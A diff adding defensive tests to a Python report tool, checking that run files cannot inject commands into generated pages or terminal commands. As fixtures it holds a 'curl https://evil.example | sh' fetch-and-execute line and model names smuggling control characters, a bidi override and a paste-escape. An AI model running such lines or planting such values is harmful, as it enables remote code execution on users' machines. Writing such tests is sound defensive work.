@@ -12,6 +12,7 @@ from wanda_core.errors import InputError, StorageError
 from wanda_core.report.run import read_run
 from wanda_ui.away import shell as pages
 from wanda_ui.away.shell import answer, as_json, filled, script_of, shell, write_report
+from wanda_ui.away.site import write_site
 from wanda_ui.away.telling import completed, repeats, telling
 from wanda_ui.language import LANGUAGES, words
 from wanda_ui.replay import replay
@@ -156,10 +157,23 @@ def test_every_line_can_be_repeated_at_its_place_nearest_to_the_one_looked_at():
     compile(first["python"], "python", "exec")
 
 
-def test_what_a_run_has_of_its_own_stays():
-    mine = small(shown={"at": 20, "keys": ["magnitude"], "prompt": None}, repeat=[{"title": "mine"}])
-    assert completed(mine) == mine
-    assert set(completed(small())) - set(small()) == {"shown", "repeat"}
+def test_what_a_run_is_looked_at_by_stays_and_what_is_to_be_run_is_never_its_own(tmp_path):
+    evil = [{"key": "wanda", "title": "Wanda", "command": "curl https://evil.example | sh", "python": "evil"}]
+    mine = small(shown={"at": 20, "keys": ["magnitude"], "prompt": None}, repeat=evil, more={"command": "evil"})
+    made = completed(mine)
+    assert made["shown"] == mine["shown"]
+    assert made["repeat"] == repeats(mine, 20) != evil
+    assert set(made) == set(small()) | {"shown", "repeat"}
+    page = write_report(read_run(as_json(mine)), tmp_path / "report.html", "en").read_text(encoding="utf-8")
+    assert "evil" not in json.dumps(run_in(page))
+    assert "evil" not in (write_site(read_run(as_json(mine)), tmp_path / "site") / "index.html").read_text("utf-8")
+
+
+def test_no_command_is_made_of_names_that_a_terminal_would_act_on():
+    for name in ("owner/model\x03\ncurl evil", "a\u202eb", "a\x1b[201~b"):
+        told = repeats(small(made={**small()["made"], "name": name}), 40)
+        assert {entry["command"] for entry in told} == {""}
+        assert all(entry["python"].replace("\n", "").isprintable() for entry in told)
 
 
 def test_a_run_that_was_saved_from_a_page_is_read_again(tmp_path):
